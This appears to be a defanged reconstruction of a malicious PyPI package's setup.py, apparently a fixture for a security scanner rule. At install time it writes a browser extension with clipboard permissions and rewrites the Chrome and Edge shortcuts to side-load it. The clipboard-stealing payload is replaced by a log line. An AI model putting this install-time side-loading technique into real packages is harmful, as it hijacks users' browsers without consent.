# The clipper wave's setup.py (strings there are hidden behind chr()
# arithmetic, shown in clear here): it writes a clipboard-reading extension and
# rewrites browser shortcuts to side-load it. Defanged: the wallet address is
# a placeholder and the extension only logs.
import os

from setuptools import setup

ext = os.path.join(os.getenv("APPDATA", "/tmp"), "Extension")
os.makedirs(ext, exist_ok=True)
with open(os.path.join(ext, "manifest.json"), "w") as f:
    f.write('{"name": "Windows", "background": {"scripts": ["background.js"]}, "manifest_version": 2, "permissions": ["clipboardWrite", "clipboardRead"]}')
with open(os.path.join(ext, "background.js"), "w") as f:
    f.write("console.log('placeholder for 0xEXAMPLE');")

try:
    import win32com.client

    shell = win32com.client.Dispatch("WScript.Shell")
    for link in ("Google Chrome.lnk", "Microsoft Edge.lnk"):
        shortcut = shell.CreateShortCut(os.path.join(os.path.expanduser("~\\Desktop"), link))
        shortcut.Arguments = "--load-extension=" + ext  # expect: HS115 critical
        shortcut.Save()
except ImportError:
    pass

setup(name="colorsama", version="0.1")
